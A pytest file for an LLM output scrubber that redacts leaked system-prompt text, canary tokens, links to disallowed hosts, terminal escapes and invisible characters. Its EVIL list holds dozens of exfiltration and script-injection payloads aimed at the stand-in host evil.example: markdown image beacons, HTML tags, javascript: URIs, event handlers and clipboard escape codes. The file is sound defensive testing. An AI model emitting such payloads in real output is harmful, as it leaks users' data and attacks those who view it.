"""Leaks that are no personal data: protected text, canaries, links, markup, escape sequences, invisible characters."""

from __future__ import annotations

import base64

import pytest
from cutting import same_for_every_cut

from langchain_guard import Canary, ConfigError, OutputScrubber
from langchain_guard.scrub.invisible import Cleaner

SYSTEM = (
    "You are the assistant of Acme. You must never mention the project Bluebird, its budget, or the people who lead it."
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "I was told: you must NEVER mention the project, Bluebird — its budget! Fine.",
            "I was told: [PROTECTED_TEXT]! Fine.",
        ),
        (f"Sure: {SYSTEM}", "Sure: [PROTECTED_TEXT]."),
        ("You must never mention the project to anyone.", "You must never mention the project to anyone."),
        ("the people who lead it", "the people who lead it"),
        ("xyou must never mention the project Bluebird its", "xyou must never mention the project Bluebird its"),
    ],
)
def test_verbatim_runs_of_protected_text(text: str, expected: str) -> None:
    scrubber = OutputScrubber(protect=[SYSTEM])
    assert scrubber.scrub(text) == expected
    same_for_every_cut(scrubber.scanner, text, expected)


def test_a_short_protected_text_counts_whole() -> None:
    scrubber = OutputScrubber(protect=["open the pod bay"])
    assert scrubber.scrub("please open the pod bay doors") == "please [PROTECTED_TEXT] doors"
    with pytest.raises(ConfigError, match="at least 4 words"):
        OutputScrubber(protect=["too short"])


def test_protected_text_may_stand_in_the_system_message() -> None:
    from langchain_core.messages import AIMessage, SystemMessage

    messages = [SystemMessage(SYSTEM), AIMessage(SYSTEM)]
    out = OutputScrubber(protect=[SYSTEM]).invoke(messages)
    assert out[0] is messages[0]
    assert out[1].content == "[PROTECTED_TEXT]."


def test_protecting_a_prompt_holds_little_of_ordinary_prose() -> None:
    scanner, held = OutputScrubber(kinds=[], protect=[SYSTEM]).scanner(), []
    for word in [
        "You",
        "are",
        "the",
        "one",
        "that",
        "I",
        "know;",
        "you",
        "must",
        "come",
        "and",
        "mention",
        "the",
        "budget",
        "of",
        "the",
        "people.",
        "",
    ]:
        scanner.feed(word + " ")
        held.append(scanner.held)
    assert max(held) <= 20


@pytest.mark.parametrize("form", ["verbatim", "upper", "reversed", "spaced", "dotted", "base64", "base64 in a text"])
def test_a_canary_is_found_in_every_form(form: str) -> None:
    canary = Canary()
    token = canary.plant("Be kind.").split()[-1]
    shapes = {
        "verbatim": token,
        "upper": token.upper(),
        "reversed": token[::-1],
        "spaced": " ".join(token),
        "dotted": ".".join(token),
        "base64": base64.b64encode(token.encode()).decode(),
        "base64 in a text": base64.b64encode(f"it is {token}!".encode()).decode(),
    }
    scrubber = OutputScrubber(kinds=[], canary=canary)
    out = scrubber.scrub(f"Fine: {shapes[form]} done")
    assert "[CANARY]" in out
    assert out.startswith("Fine: ")
    assert out.endswith(" done")
    assert token[:12] not in out.lower()
    same_for_every_cut(scrubber.scanner, f"Fine: {shapes[form]} done", out)


def test_every_token_is_new_and_another_canary_does_not_find_it() -> None:
    canary = Canary(note=" [{token}]")
    first, second = canary.plant("a"), canary.plant("a")
    assert first != second
    assert OutputScrubber(kinds=[], canary=canary).scrub(first + second) == "a [[CANARY]]a [[CANARY]]"
    assert OutputScrubber(kinds=[], canary=Canary()).scrub(first) == first
    with pytest.raises(ConfigError, match="must hold"):
        Canary(note="no token")
    with pytest.raises(ConfigError, match=r"note=5.* must be a str"):
        Canary(5)  # type: ignore[arg-type]


EVIL = [
    ("inline image", "![x](https://evil.example/p.png?q=SECRETDATA)"),
    ("image with a title", '![x](https://evil.example/p.png?q=SECRETDATA "t")'),
    ("image in angles", "![x](<https://evil.example/p.png?q=SECRETDATA>)"),
    ("reference image", "![x][r]\n\n[r]: https://evil.example/p.png?q=SECRETDATA"),
    ("shortcut reference", "![r]\n\n[r]: <https://evil.example/?q=SECRETDATA>"),
    ("link", "[click](https://evil.example/?q=SECRETDATA)"),
    ("autolink", "<https://evil.example/?q=SECRETDATA>"),
    ("bare", "see https://evil.example/?q=SECRETDATA ok"),
    ("scheme in entities", '<a href="&#104;ttps://evil.example/?q=SECRETDATA">x</a>'),
    ("scheme with a line end", "[x](ht\ntps://evil.example/?q=SECRETDATA)"),
    ("html image", '<img src="https://evil.example/?q=SECRETDATA">'),
    ("single quotes", "<img src='//evil.example/?q=SECRETDATA'>"),
    ("protocol-relative", "![x](//evil.example/?q=SECRETDATA)"),
    ("backslashes", "![x](\\\\evil.example/?q=SECRETDATA)"),
    ("upper case", "![x](HTTPS://EVIL.EXAMPLE/?q=SECRETDATA)"),
    ("userinfo", "![x](https://example.com@evil.example/?q=SECRETDATA)"),
    ("look-alike", "![x](https://example.com.evil.example/?q=SECRETDATA)"),
    ("look-alike name", "![x](https://notexample.com/?q=SECRETDATA)"),
    ("unicode host", "![x](https://exаmple.com/?q=SECRETDATA)"),
    ("address", "![x](http://203.0.113.7/?q=SECRETDATA)"),
    ("ftp", "ftp://evil.example/SECRETDATA"),
    ("websocket", "wss://evil.example/SECRETDATA"),
    ("entity in the scheme", "[x](https&#58;//evil.example/SECRETDATA)"),
    ("css", '<div style="background:url(https://evil.example/?q=SECRETDATA)">'),
    ("iframe", '<iframe src="https://evil.example/SECRETDATA"></iframe>'),
    ("script", "<script>fetch('https://evil.example/?q=SECRETDATA')</script>"),
    ("form", '<form action="https://evil.example/SECRETDATA">'),
    ("javascript", "[x](javascript:alert('SECRETDATA'))"),
    ("javascript with an entity", "[x](java&#115;cript:alert(1)SECRETDATA)"),
    ("javascript with a tab", "[x](java\tscript:SECRETDATA)"),
    ("vbscript", "[x](vbscript:msgbox('SECRETDATA'))"),
    ("data", "[x](data:text/html;base64,SECRETDATA)"),
    ("svg handler", "<svg/onload=alert('SECRETDATA')>"),
    ("handler in a harmless tag", "<p onclick=\"steal('SECRETDATA')\">hi</p>"),
    ("terminal link", "\x1b]8;;https://evil.example/SECRETDATA\x07click\x1b]8;;\x07"),
    ("clipboard", "\x1b]52;c;SECRETDATA\x07"),
    ("zero-width", "![x](https://evil\u200b.example/?q=SECRETDATA)"),
]


@pytest.mark.parametrize(("name", "text"), EVIL, ids=[name for name, _ in EVIL])
def test_no_way_out_to_other_hosts(name: str, text: str) -> None:
    scrubber = OutputScrubber(kinds=[], allow_hosts=["example.com"])
    out = scrubber.scrub(text)
    assert "SECRETDATA" not in out
    for active in ("evil", "javascript", "<script", "<img", "\x1b"):
        assert active not in out.lower()
    same_for_every_cut(scrubber.scanner, text, out)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://example.com/a.png) and <https://docs.example.com/b?c=d#e>",
        "see //example.com/x or https://EXAMPLE.com:8443/",
        "a // comment, x = a//b, 1//2 and <b>bold</b> or a < b > c",
        "the ratio on = 3, only = 4; data: text and javascript is a language",
        "path/to//file.txt and C:\\\\temp\\\\x",
    ],
)
def test_what_leads_to_an_allowed_host_or_nowhere_stays(text: str) -> None:
    assert OutputScrubber(kinds=[], allow_hosts=["example.com"]).scrub(text) == text


def test_without_allow_hosts_links_stay() -> None:
    text = "![x](https://evil.example/p.png) <b onclick=x> \x1b[31mred"
    assert OutputScrubber(kinds=[]).scrub(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("a\x1bPq#0;2\x1b\\b", "ab"),
        ("a\x9b31mb", "ab"),
        ("bell\x07 and back\x08", "bell and back"),
        ("tabs\tand\nlines\r\n stay", "tabs\tand\nlines\r\n stay"),
    ],
)
def test_terminal_sequences(text: str, expected: str) -> None:
    scrubber = OutputScrubber(kinds=[], allow_hosts=[])
    assert scrubber.scrub(text) == expected
    same_for_every_cut(scrubber.scanner, text, expected)


INVISIBLE = [
    ("bob@exa\u200bmple.com", "[EMAIL]"),
    ("ghp_NotAReal\u00adToken0Fake1Xy2Qz3WvNotAReal1", "[GITHUB_TOKEN]"),
    ("a\u202eb\u2066c", "abc"),
    ("x" + "".join(chr(0xE0000 + ord(char)) for char in "secret") + "y", "xy"),
    ("x\U000e0100y\ufe05z", "xyz"),
    ("👨\u200d👩\u200d👧 ok ❤\ufe0f", "👨\u200d👩\u200d👧 ok ❤\ufe0f"),
    ("می\u200cخواهم क्\u200dष", "می\u200cخواهم क्\u200dष"),
    ("a\u200db\u200cc", "abc"),
    (
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f!",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f!",
    ),
    ("\U0001f3f4\U000e0061\U000e0062!", "\U0001f3f4!"),
]


@pytest.mark.parametrize(("text", "expected"), INVISIBLE)
def test_invisible_characters_are_removed_before_anything_is_looked_for(text: str, expected: str) -> None:
    scrubber = OutputScrubber()
    verdict = scrubber.check(text)
    assert scrubber.scrub(text) == expected
    assert verdict.action == ("allow" if text == expected else "redact")
    same_for_every_cut(scrubber.scanner, text, expected, verdict.findings)


def test_findings_count_the_raw_text() -> None:
    findings = OutputScrubber().check("\u200bto bob@exa\u200bmple.com").findings
    assert [(f.kind, f.start, f.end) for f in findings] == [
        ("invisible", 0, 1),
        ("email", 4, 20),
        ("invisible", 11, 12),
    ]


def test_invisible_characters_can_be_allowed() -> None:
    assert OutputScrubber(actions={"invisible": "allow"}).scrub("a\u200bb") == "a\u200bb"


def test_positions_are_mapped_back() -> None:
    cleaner = Cleaner()
    assert cleaner.feed("a\u200b\u200bb\u00adc") == "abc"
    assert [cleaner.locate(i, i + 1) for i in range(3)] == [(0, 1), (3, 4), (5, 6)]
    assert cleaner.removed == [(1, 3), (4, 5)]
